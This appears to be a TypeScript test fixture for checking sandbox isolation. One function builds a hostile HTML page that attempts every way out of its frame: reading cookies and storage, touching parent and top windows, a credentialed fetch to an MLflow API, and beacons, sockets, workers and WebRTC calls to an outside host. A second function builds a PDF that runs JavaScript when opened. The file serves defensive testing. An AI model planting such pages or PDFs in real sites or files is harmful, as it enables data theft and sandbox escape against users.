/** A page that tries all ways out of its frame, and writes down how far it came. */
export function hostile(ours: string, elsewhere: string, udp: number): string {
  return `<!doctype html><h1>Hostile</h1>
<link rel="preconnect" href="${elsewhere}"><link rel="dns-prefetch" href="${elsewhere}"><link rel="prefetch" href="${elsewhere}/prefetch">
<link rel="stylesheet" href="${elsewhere}/style"><script src="${elsewhere}/script.js"></script><img src="${elsewhere}/image">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${elsewhere}/rules"]}]}</script>
<iframe src="data:text/html,x"></iframe><form action="${elsewhere}/form"></form><a href="${elsewhere}/link" target="_blank" ping="${elsewhere}/ping">x</a><pre></pre>
<script>
const came = {origin: self.origin};
const attempt = async (name, act) => {
  try { came[name] = String(await act()); } catch (failure) { came[name] = failure.name; }
};
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('databases', () => indexedDB.open('x').result);
  await attempt('parent', () => (parent.document.title = 'ran'));
  await attempt('top', () => (top.ran = 1));
  await attempt('ours', () => fetch('${ours}/api/2.0/mlflow/experiments/get?experiment_id=0', {credentials: 'include'}));
  await attempt('elsewhere', () => fetch('${elsewhere}/fetch', {mode: 'no-cors'}));
  await attempt('window', () => open('${elsewhere}/window'));
  for (const act of [
    () => { top.location = '${elsewhere}/top'; },
    () => document.forms[0].submit(),
    () => document.querySelector('a').click(),
    () => navigator.sendBeacon('${elsewhere}/beacon'),
    () => new WebSocket('${elsewhere.replace('http', 'ws')}/socket'),
    () => new EventSource('${elsewhere}/events'),
    () => new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}/worker')"]))),
    () => import('${elsewhere}/module.js').catch(() => 0),
    () => { new Image().src = '${elsewhere}/pixel'; },
  ]) try { act(); } catch {}
  try {
    const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${udp}'}]});
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((gone) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && gone();
      setTimeout(gone, 500);
    });
  } catch {}
  document.querySelector('pre').textContent = JSON.stringify(came);
  document.body.append(Object.assign(document.createElement('p'), {textContent: 'done'}));
})();
</script>`;
}

/** A PDF of one page that runs a script when it is opened. */
export function pdf(script: string): string {
  const drawn = 'BT /F1 36 Tf 40 100 Td (Paper) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let text = '%PDF-1.4\n';
  const at = objects.map((object, i) => {
    const from = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return String(from).padStart(10, '0');
  });
  const from = text.length;
  return `${text}xref\n0 6\n0000000000 65535 f \n${at.map((each) => `${each} 00000 n \n`).join('')}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${from}\n%%EOF\n`;
}
